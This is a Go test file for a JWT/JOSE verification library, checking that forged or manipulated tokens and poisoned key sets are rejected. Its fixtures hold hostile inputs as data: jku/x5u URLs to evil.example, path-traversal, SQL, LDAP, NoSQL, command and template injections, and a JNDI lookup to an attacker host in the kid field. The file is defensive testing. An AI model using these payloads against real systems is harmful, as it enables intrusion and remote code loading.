package jose_test

import (
	"context"
	"crypto"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"sallyport/internal/token/jose"
)

// Group B: who chooses the key.
func TestKeySelectionAttacks(t *testing.T) {
	t.Parallel()
	body, sign, evil := claims(nil), es(ecKey, crypto.SHA256), es(otherKey, crypto.SHA256)
	jwk := string(keyOf("", jose.ES256, &otherKey.PublicKey).AppendJWK(nil))
	own := string(keyOf("", jose.ES256, &ecKey.PublicKey).AppendJWK(nil))
	head := func(more string) string { return `{"alg":"ES256","typ":"at+jwt"` + more + `}` }
	var list []attack
	add := func(name, token string, r jose.Reason) { list = append(list, attack{name, token, r}) }

	add("J030 embedded jwk of the attacker", raw(head(`,"jwk":`+jwk), body, evil), jose.ReasonHeaderKey)
	add("J030 embedded jwk beside a kid", raw(head(`,"kid":"k1","jwk":`+jwk), body, evil), jose.ReasonHeaderKey)
	add("J030 embedded jwk, even our own", raw(head(`,"kid":"k1","jwk":`+own), body, sign), jose.ReasonHeaderKey)
	for _, url := range []string{
		"https://evil.example/jwks", issuer + "/redirect?to=https://evil.example", "https://auth.example.com@evil.example/",
		issuer + ".evil.example/", issuer + "/uploads/jwks.json", issuer + "/.well-known/jwks.json",
	} {
		add("J031 jku "+url, raw(head(`,"kid":"k1","jku":"`+url+`"`), body, sign), jose.ReasonHeaderKey)
		add("J032 x5u "+url, raw(head(`,"kid":"k1","x5u":"`+url+`"`), body, sign), jose.ReasonHeaderKey)
	}
	add("J032 x5c", raw(head(`,"kid":"k1","x5c":["MIIB"]`), body, sign), jose.ReasonHeaderKey)
	add("J032 x5t alone chooses nothing", raw(head(`,"kid":"k2","x5t":"dGh1bWI"`), body, evil), jose.ReasonKeyID)
	for _, kid := range []string{
		"../../dev/null", "/proc/self/environ", `C:\\\\Windows\\\\win.ini`, "%2e%2e%2fdev%2fnull", `k1\u0000`,
		"k1' OR '1'='1", "*)(uid=*", `{\"$ne\":null}`, "k1; sleep 5", "{{7*7}}", `k1\r\nX: y`, "${jndi:ldap://evil.example/a}",
		"https://evil.example/k1", "K1", "k1 ", "ｋ1", "k\u200b1", "k2",
	} {
		id := "J033"
		if strings.ContainsAny(kid, "'*$;{\r") {
			id = "J034"
		}
		add(id+" J035 kid "+kid, raw(head(`,"kid":"`+kid+`"`), body, hsEmpty), jose.ReasonKeyID)
	}
	for _, kid := range []string{`1`, `{}`, `["k1"]`, `null`, `""`, `true`, `"` + strings.Repeat("k", 300) + `"`} {
		add("J035 kid "+kid[:min(len(kid), 9)], raw(head(`,"kid":`+kid), body, sign), jose.ReasonHeader)
	}
	add("J035 kid of 1 MB", raw(head(`,"kid":"`+strings.Repeat("k", 1<<20)+`"`), body, sign), jose.ReasonSize)
	run(t, profile(nil), good(), list)
}

func hsEmpty(input []byte) []byte { return hs(nil)(input) }

// A key that is for something else verifies nothing.
func TestJ037WrongUse(t *testing.T) {
	t.Parallel()
	jwk := func(kid, more string) string {
		return strings.TrimSuffix(string(keyOf(kid, "", &ecKey.PublicKey).AppendJWK(nil)), `,"use":"sig"}`) + more + "}"
	}
	set := must(jose.ParseKeySet([]byte(`{"keys":[` + strings.Join([]string{
		jwk("k1", `,"use":"sig"`), jwk("enc", `,"use":"enc"`), jwk("ops", `,"key_ops":["sign"]`), jwk("encops", `,"key_ops":["encrypt","wrapKey"]`),
		jwk("none", `,"key_ops":[]`), jwk("ecdh", `,"alg":"ECDH-ES"`), jwk("okops", `,"key_ops":["verify"]`),
	}, ",") + `]}`)))
	v := profile(func(p *jose.Profile) { p.Keys = set })
	at := func(kid string) string {
		return raw(`{"alg":"ES256","kid":"`+kid+`","typ":"at+jwt"}`, claims(nil), es(ecKey, crypto.SHA256))
	}
	if _, err := v.Verify(context.Background(), at("okops")); err != nil {
		t.Errorf("the pair: %v", err)
	}
	var list []attack
	for _, kid := range []string{"enc", "ops", "encops", "none", "ecdh"} {
		list = append(list, attack{kid, at(kid), jose.ReasonKey})
	}
	run(t, v, at("k1"), list)
}

// Without a kid there must be one key that fits, and no trial of all of them.
func TestJ038NoKeyID(t *testing.T) {
	t.Parallel()
	bare := raw(`{"alg":"ES256","typ":"at+jwt"}`, claims(nil), es(ecKey, crypto.SHA256))
	one := setOf(keyOf("k1", jose.ES256, &ecKey.PublicKey), keyOf("e1", jose.EdDSA, edK.Public()))
	two := setOf(keyOf("k1", jose.ES256, &ecKey.PublicKey), keyOf("k2", jose.ES256, &otherKey.PublicKey))
	if _, err := profile(func(p *jose.Profile) { p.Keys = one }).Verify(context.Background(), bare); err != nil {
		t.Errorf("the pair: %v", err)
	}
	run(t, profile(func(p *jose.Profile) { p.Keys = two }), good(), []attack{{"two keys fit", bare, jose.ReasonKeyID}})
	var many []string
	for i := range 101 {
		many = append(many, string(keyOf(fmt.Sprint("k", i), jose.ES256, &ecKey.PublicKey).AppendJWK(nil)))
	}
	if _, err := jose.ParseKeySet([]byte(`{"keys":[` + strings.Join(many, ",") + `]}`)); err == nil {
		t.Error("a set of 101 keys is accepted")
	}
	if s, err := jose.ParseKeySet([]byte(`{"keys":[` + strings.Join(many[:100], ",") + `]}`)); err != nil || len(s.Keys()) != 100 {
		t.Errorf("a set of 100 keys: %v", err)
	}
}

func TestJ041J042PoisonedKeySets(t *testing.T) {
	t.Parallel()
	good := string(keyOf("k1", jose.ES256, &ecKey.PublicKey).AppendJWK(nil))
	other := string(keyOf("k1", jose.ES256, &otherKey.PublicKey).AppendJWK(nil))
	private := strings.TrimSuffix(good, "}") + `,"d":"` + enc(make([]byte, 32)) + `"}`
	weak := fmt.Sprintf(`{"kty":"RSA","kid":"weak","n":%q,"e":"AQAB"}`, enc(new(big.Int).SetBit(big.NewInt(1), 1023, 1).Bytes()))
	for name, set := range map[string]string{
		"J041 one kid for two keys":       good + "," + other,
		"J041 one kid, one of them weak":  good + "," + strings.Replace(weak, `"weak"`, `"k1"`, 1),
		"J041 a private key":              private,
		"J041 a private key beside":       good + "," + strings.Replace(private, `"k1"`, `"k2"`, 1),
		"J041 a symmetric key beside":     good + `,{"kty":"oct","kid":"s","alg":"HS256","k":"` + enc(make([]byte, 32)) + `"}`,
		"J041 a symmetric key alone":      `{"kty":"oct","kid":"s","alg":"HS256","k":"` + enc(make([]byte, 32)) + `"}`,
		"J041 a private RSA key (p only)": good + `,{"kty":"RSA","kid":"r","n":"AQAB","e":"AQAB","p":"AQAB"}`,
	} {
		if _, err := jose.ParseKeySet([]byte(`{"keys":[` + set + `]}`)); !errors.Is(err, jose.ErrKey) {
			t.Errorf("%s: %v, want ErrKey", name, err)
		}
	}
	for name, bad := range map[string]string{
		"J042 unknown kty": `{"kty":"AKP","kid":"x","alg":"ML-DSA-65","pub":"AA"}`, "J042 unknown curve": `{"kty":"EC","crv":"secp256k1","kid":"x","x":"AA","y":"AA"}`,
		"J042 kty missing": `{"kid":"x"}`, "J042 null": `null`, "J042 a number": `7`, "J042 an array": `[[]]`, "J042 kty is a number": `{"kty":1}`,
		"J042 x is null": `{"kty":"EC","crv":"P-256","kid":"x","x":null,"y":"AA"}`, "J042 weak": weak, "J042 n is empty": `{"kty":"RSA","kid":"x","n":"","e":"AQAB"}`,
	} {
		set, err := jose.ParseKeySet([]byte(`{"keys":[` + bad + `,` + good + `]}`))
		if err != nil || len(set.Keys()) != 1 {
			t.Errorf("%s: %v; want it left out and the good key kept", name, err)
		}
	}
	for name, doc := range map[string]string{
		"keys missing": `{}`, "keys twice": `{"keys":[],"keys":[` + good + `]}`, "keys no array": `{"keys":{}}`, "two values": `{"keys":[]}{}`,
		"over 256 KiB": `{"keys":[` + good + `],"x":"` + strings.Repeat("x", 256<<10) + `"}`, "top level array": `[` + good + `]`,
	} {
		if _, err := jose.ParseKeySet([]byte(doc)); !errors.Is(err, jose.ErrKey) {
			t.Errorf("J042 %s: %v, want ErrKey", name, err)
		}
	}
}

func TestKY03J044J045KeysThatContradictThemselves(t *testing.T) {
	t.Parallel()
	var ec map[string]string
	if err := json.Unmarshal(keyOf("k1", jose.ES256, &ecKey.PublicKey).AppendJWK(nil), &ec); err != nil {
		t.Fatal(err)
	}
	change := func(pairs ...string) []byte {
		c := map[string]string{}
		for k, v := range ec {
			c[k] = v
		}
		for i := 0; i < len(pairs); i += 2 {
			c[pairs[i]] = pairs[i+1]
		}
		return must(json.Marshal(c))
	}
	if _, err := jose.ParseKey(change()); err != nil {
		t.Fatalf("the pair: %v", err)
	}
	x, y := ecKey.X.FillBytes(make([]byte, 32)), ecKey.Y.FillBytes(make([]byte, 32))
	y[len(y)-1] ^= 1
	for name, jwk := range map[string][]byte{
		"J044 alg of another curve": change("alg", "ES384"), "J044 alg of another kind": change("alg", "PS256"), "J044 unknown alg": change("alg", "ES224"),
		"J044 use enc, alg of signatures": change("use", "enc"), "J044 use sig, alg of encryption": change("alg", "ECDH-ES"), "J044 unknown use": change("use", "wrap"),
		"J045 off the curve": change("y", enc(y)), "J045 wrong curve": change("crv", "P-384", "alg", "ES384"), "J045 wrong kty": change("kty", "RSA"),
		"J045 short coordinate": change("x", enc(x[1:])), "J045 long coordinate": change("x", enc(append([]byte{0}, x...))),
		"J045 the point at infinity": change("x", enc(make([]byte, 32)), "y", enc(make([]byte, 32))),
		"J045 Ed25519 of 31 bytes":   fmt.Appendf(nil, `{"kty":"OKP","crv":"Ed25519","x":%q}`, enc(edK.Public().(ed25519.PublicKey)[1:])),
		"J045 X25519 as a signer":    fmt.Appendf(nil, `{"kty":"OKP","crv":"X25519","x":%q}`, enc(edK.Public().(ed25519.PublicKey))),
		"G01 member names by case":   []byte(strings.Replace(string(change()), `"kty"`, `"KTY"`, 1)),
	} {
		if _, err := jose.ParseKey(jwk); !errors.Is(err, jose.ErrKey) {
			t.Errorf("%s: %v, want ErrKey", name, err)
		}
	}
}
